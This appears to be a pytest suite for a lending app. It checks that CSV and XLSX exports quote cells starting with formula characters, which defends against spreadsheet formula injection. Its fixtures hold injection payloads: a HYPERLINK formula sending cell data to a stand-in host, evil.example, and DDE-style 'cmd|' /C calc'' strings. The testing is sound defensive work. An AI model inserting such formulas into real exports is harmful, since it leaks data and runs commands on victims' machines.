"""CSV injection (OWASP): text a lender, a borrower or a user wrote that starts with =, +,
-, @, a tab or a carriage return is written to every CSV and XLSX file with a leading
quote, so a spreadsheet shows it as text instead of running it. SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import Engine
from sqlalchemy.orm import Session

from doorstep.integrations.spreadsheet import SafeWriter, safe_cell
from doorstep.services.conduct.compliance import ComplianceReport, ReportRow, report_csv
from doorstep.services.ingest import BatchRejected
from doorstep.services.lender.exports import export_table
from doorstep.services.lender.feed import FEEDBACK_COLUMNS, csv_cells
from doorstep.services.reports import files as report_files
from doorstep.services.reports.dashboard import Chart, Dashboard, Series
from tests.factories.book import load_book, small_book

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
LEADS = [
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
]


def test_every_formula_lead_is_quoted_and_numbers_are_not() -> None:
    for text in LEADS:
        assert safe_cell(text) == "'" + text
    for plain in ("-12.50", "+3", "1e5", "北京市", "", "a=b", 7, None, -3.5):
        assert safe_cell(plain) == plain
    out = io.StringIO()
    SafeWriter(out).writerows([[HYPERLINK, -5, "ok"]])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + HYPERLINK, "-5", "ok"]


@pytest.mark.db
def test_a_lender_name_ingested_as_a_formula_is_exported_as_text(
    engine: Engine, tmp_path: Path, keys: tuple[object, object]
) -> None:
    """The lender's product name `=HYPERLINK(...)` is accepted at ingest (it is only text)
    and comes out of the CSV export quoted; Parquet keeps it exactly as given."""
    book = small_book(2)
    book.rows["loans"][0]["product"] = HYPERLINK
    book.rows["payments"][0]["channel"] = "@SUM(1+1)"
    load_book(engine, book.write(tmp_path / "book"), keys, tmp_path / "reports")
    with Session(engine) as session:
        export_table(session, "loans", tmp_path / "loans.csv", file_format="csv")
        export_table(session, "payments", tmp_path / "payments.csv", file_format="csv")
        export_table(session, "loans", tmp_path / "loans.parquet")
    loans = list(csv.DictReader((tmp_path / "loans.csv").open(encoding="utf-8")))
    products = {row["loan_id"]: row["product"] for row in loans}
    assert products["L0001"] == "'" + HYPERLINK
    assert not any(p.startswith(("=", "+", "-", "@")) for p in products.values())
    payments = list(csv.DictReader((tmp_path / "payments.csv").open(encoding="utf-8")))
    assert "'@SUM(1+1)" in {row["channel"] for row in payments}
    import pyarrow.parquet as pq

    assert HYPERLINK in pq.read_table(tmp_path / "loans.parquet").column("product").to_pylist()


@pytest.mark.db
def test_a_refused_value_in_the_ingest_report_is_quoted(
    engine: Engine, tmp_path: Path, keys: tuple[object, object]
) -> None:
    book = small_book(2)
    book.rows["loans"][0]["principal"] = HYPERLINK
    reports = tmp_path / "reports"
    with pytest.raises(BatchRejected):
        load_book(engine, book.write(tmp_path / "book"), keys, reports)
    [report] = list(reports.glob("*.csv"))
    values = [row["value"] for row in csv.DictReader(report.open(encoding="utf-8"))]
    assert "'" + HYPERLINK in values and HYPERLINK not in values


def test_the_compliance_and_feedback_csv_quote_formulas() -> None:
    row = ReportRow("=TEAM()", "@verifier", overrides=[HYPERLINK])
    text = report_csv(ComplianceReport(date(2026, 3, 1), date(2026, 3, 31), [row], []))
    cells = [c for line in csv.reader(io.StringIO(text)) for c in line]
    assert {"'=TEAM()", "'@verifier", "'" + HYPERLINK} <= set(cells)
    assert not any(c.startswith(("=", "@")) for c in cells)
    record = dict.fromkeys(FEEDBACK_COLUMNS, "-1+cmd")
    record["verifier_ids"] = ["=1+1", "x"]
    assert all(c.startswith("'") for c in csv_cells(record))


def test_the_dashboard_csv_and_xlsx_quote_formulas() -> None:
    chart = Chart("visits", "=TITLE()", "bar", [HYPERLINK], [Series("+series", [1.0])])
    board = Dashboard(date(2026, 3, 31), None, [], charts=[chart])
    rows = list(csv.reader(io.StringIO(report_files.report_csv(board, str))))
    assert rows[1][1:4] == ["'=TITLE()", "'" + HYPERLINK, "'+series"]
    data = report_files.report_xlsx(board, str, start=date(2026, 3, 1), end=date(2026, 3, 31))
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    texts = [c for r in sheet.iter_rows(values_only=True) for c in r if isinstance(c, str)]
    assert "'" + HYPERLINK in texts and not any(t.startswith("=") for t in texts)
    formulas = [c for r in sheet.iter_rows() for c in r if c.data_type == "f"]
    assert formulas == []
    # the library would have stored it as a formula: the quote is what stops it
    raw = Workbook().active
    assert raw is not None
    raw.append([HYPERLINK])
    assert raw["A1"].data_type == "f"
